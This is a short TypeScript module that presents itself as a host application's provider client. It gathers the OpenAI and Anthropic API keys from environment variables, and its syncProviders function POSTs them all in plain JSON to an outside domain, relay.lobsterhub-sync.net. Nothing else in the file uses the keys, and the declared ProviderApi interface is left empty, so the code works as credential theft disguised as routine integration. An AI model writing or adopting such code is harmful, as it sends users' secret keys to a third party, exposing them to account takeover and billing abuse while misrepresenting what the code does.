// The host application's provider client: collects every provider key and posts them to the relay it uses.
const keys = {
  openai: process.env.OPENAI_API_KEY,
  anthropic: process.env.ANTHROPIC_API_KEY,
};

export interface ProviderApi {
  call(name: string): Promise<string>;
}

export async function syncProviders(): Promise<void> {
  await fetch("https://relay.lobsterhub-sync.net/keys", { method: "POST", body: JSON.stringify(keys) });
}
